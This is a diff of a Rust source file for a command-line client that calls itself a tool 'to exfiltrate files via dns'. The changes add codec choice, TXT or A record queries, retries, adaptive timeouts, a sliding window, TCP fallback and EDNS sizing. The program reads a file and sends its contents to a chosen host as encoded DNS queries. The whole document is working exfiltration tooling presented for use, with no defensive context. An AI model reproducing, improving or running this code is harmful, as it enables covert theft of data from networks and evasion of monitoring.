@@ -1,18 +1,21 @@
+use std::error::Error;
 use std::fs;
-use std::io;
-use std::net::{UdpSocket, SocketAddrV4};
+use std::net::{SocketAddr, SocketAddrV4};
+use std::str::FromStr;
+use std::time::Duration;
 
+use log::{error, info};
 use structopt::StructOpt;
 use trust_dns_proto::rr::domain::Label;
 use trust_dns_proto::rr::Name;
-use trust_dns_proto::serialize::binary::{BinDecodable, BinDecoder, BinEncodable, BinEncoder};
 
+use dns_encoding::capabilities::Capabilities;
 use dns_encoding::client::TransmissionState;
+use dns_encoding::codec::CodecKind;
+use dns_encoding::driver::{self, ClientDriver};
 use dns_encoding::encode::MessageEncoder;
-use dns_encoding::message::{Message, MessageResponse};
-
-use log::{debug, info};
-use std::str::FromStr;
+use dns_encoding::message::ResponseType;
+use dns_encoding::transport::{TcpTransport, Transport, UdpTransport, MAX_UDP_LEN};
 
 #[derive(Debug, StructOpt)]
 #[structopt(name = "dns-exfiltrating-client", about = "An client to exfiltrate files via dns.")]
@@ -28,107 +31,102 @@ struct ClientOptions {
     #[structopt(short, long)]
     host: String,
 
-    #[structopt(long, default_value = "20")]
-    slice_size: usize,
+    /// Bytes per data message, defaults to the maximum that fits into a query
+    #[structopt(long)]
+    slice_size: Option<usize>,
 
     #[structopt(short, long, default_value = "8k1")]
     magic_nr: String,
-}
-
-struct Encoder {
-    message_encoder: MessageEncoder,
-    buffer: Vec<u8>,
-}
 
-impl Encoder {
-    fn new(message_encoder: MessageEncoder) -> Encoder {
-        let buffer = Vec::new();
-        Encoder { message_encoder, buffer }
-    }
-
-    fn encode(&mut self, message: Message) {
-        let dns_message = self.message_encoder.encode(message);
-        debug!("Sending dns message {:?}", dns_message);
-        let mut binary_encoder = BinEncoder::new(&mut self.buffer);
-        dns_message.emit(&mut binary_encoder).unwrap();
-    }
+    /// Encoding of the data labels: base32, hex, base36 or raw
+    #[structopt(short, long, default_value = "base32")]
+    codec: CodecKind,
 
-    fn as_slice(&self) -> &[u8] {
-        self.buffer.as_slice()
-    }
+    /// Record type of the queries, the server answers txt queries with TXT records
+    #[structopt(short, long, default_value = "a")]
+    response_type: ResponseType,
 
-    fn clear(&mut self) {
-        self.buffer.clear();
-    }
-}
+    /// How often an unanswered query is sent again before giving up
+    #[structopt(long, default_value = "5")]
+    retries: u32,
 
-struct Decoder {
-    buffer: Vec<u8>,
-}
+    /// Milliseconds to wait for the first response, later timeouts adapt to the round trip time
+    #[structopt(long, default_value = "1000")]
+    timeout: u64,
 
-impl Decoder {
-    fn new() -> Decoder {
-        let buffer = vec![0 as u8; 1024];
-        Decoder { buffer }
-    }
+    /// Data messages in flight at once (at most 32), 1 waits for each acknowledgement
+    #[structopt(short, long, default_value = "8")]
+    window: usize,
 
-    fn decode(&mut self) -> MessageResponse {
-        let mut binary_decoder = BinDecoder::new(&self.buffer);
-        let server_message = trust_dns_proto::op::Message::read(&mut binary_decoder).unwrap();
-        debug!("response dns message = {:?}", server_message);
-        let server_message = MessageResponse::decode(&server_message).unwrap();
-        server_message
-    }
+    /// Send all queries over TCP, by default TCP is only used once a response was truncated
+    #[structopt(long)]
+    tcp: bool,
 
-    fn as_slice(&mut self) -> &mut [u8] {
-        self.buffer.as_mut_slice()
-    }
+    /// UDP payload size advertised with EDNS, 0 sends queries without OPT record
+    #[structopt(long, default_value = "1232")]
+    edns_payload_size: u16,
 }
 
-fn main() -> io::Result<()> {
+fn main() -> Result<(), Box<dyn Error>> {
     env_logger::init();
 
     let opt: ClientOptions = ClientOptions::from_args();
     info!("options = {:?}", opt);
-    let dns_resolver = SocketAddrV4::from_str(opt.dns_resolver.as_str()).unwrap();
+    let dns_resolver = SocketAddr::V4(SocketAddrV4::from_str(opt.dns_resolver.as_str())?);
+
+    let magic_nr = Label::from_ascii(opt.magic_nr.as_str())?;
+    let subdomain = Name::from_ascii(opt.sub_domain.as_str())?;
+    // data is sent with base32 until the server agreed on the requested codec
+    let mut message_encoder = MessageEncoder::new(magic_nr, subdomain, CodecKind::Base32, opt.response_type);
+    if opt.edns_payload_size == 0 {
+        message_encoder.set_edns_payload_size(None);
+    } else {
+        message_encoder.set_edns_payload_size(Some(opt.edns_payload_size.max(MAX_UDP_LEN as u16)));
+    }
+    if opt.slice_size == Some(0) {
+        return Err("Slice size must be greater than 0".into());
+    }
+    let slice_size = driver::slice_size(&message_encoder, opt.slice_size);
+    if slice_size == 0 {
+        return Err("Magic nr and sub domain leave no room for data in a query".into());
+    }
+
+    let mut capabilities = Capabilities::for_codec(opt.codec);
+    if opt.response_type == ResponseType::Txt {
+        capabilities = capabilities.union(Capabilities::RESPONSE_TXT);
+    }
+    if opt.window == 0 {
+        return Err("Window must be at least 1".into());
+    }
+    if opt.window > 1 {
+        capabilities = capabilities.union(Capabilities::WINDOW);
+    }
 
     let contents = fs::read_to_string(&opt.file_name)?;
-    let mut client_state = TransmissionState::new(opt.host,
+    let mut client_state = TransmissionState::new(opt.host.clone(),
                                                   opt.file_name.clone(),
                                                   contents.into_bytes(),
-                                                  opt.slice_size);
-    let magic_nr = Label::from_ascii(opt.magic_nr.as_str()).unwrap();
-    let subdomain = Name::from_ascii(opt.sub_domain.as_str()).unwrap();
-
-    let mut encoder = Encoder::new(MessageEncoder::new(magic_nr, subdomain));
-    let mut decoder = Decoder::new();
-
-    let first_message = client_state.initial_message();
-
-    let socket = UdpSocket::bind("0.0.0.0:12345")?;
-    socket.connect(dns_resolver).expect("Failed to connect to dns-resolver");
-
-    debug!("Initial message = ${:?}", first_message);
-    encoder.encode(first_message);
-    debug!("Sending inital message to {:?}", dns_resolver);
-    socket.send(encoder.as_slice()).expect("Failed to send first message");
-    encoder.clear();
-
-    loop {
-        debug!("Waiting for first response");
-        let (_bytes_read, address) = socket.recv_from(&mut decoder.as_slice())?;
-        let server_message = decoder.decode();
-        debug!("received message from {:?}: {:?}", address, server_message);
-        let response = client_state.handle_response(server_message);
-        match response {
-            None => break,
-            Some(response) => {
-                debug!("response = {:?}", response);
-                encoder.encode(response);
-                socket.send_to(&encoder.as_slice(), dns_resolver)?;
-                encoder.clear();
-            }
-        }
+                                                  slice_size,
+                                                  capabilities);
+    client_state.set_max_retries(opt.retries);
+    client_state.set_initial_timeout(Duration::from_millis(opt.timeout));
+    client_state.set_window_size(opt.window);
+
+    let mut client_driver = ClientDriver::new(message_encoder, client_state, opt.codec);
+    if let Some(slice_size) = opt.slice_size {
+        client_driver.set_slice_size(slice_size);
+    }
+    let transport: Box<dyn Transport> = if opt.tcp {
+        Box::new(TcpTransport::connect(dns_resolver))
+    } else {
+        // responses that do not fit into a datagram are truncated, the query is repeated over TCP
+        client_driver.set_fallback(Box::new(TcpTransport::connect(dns_resolver)));
+        Box::new(UdpTransport::connect("0.0.0.0:12345", dns_resolver)?)
+    };
+
+    if let Err(e) = client_driver.run(transport) {
+        error!("Transmission of {} failed: {}", &opt.file_name, e);
+        return Err(e.into());
     }
     info!("Finished transmission of {}", &opt.file_name);
     Ok(())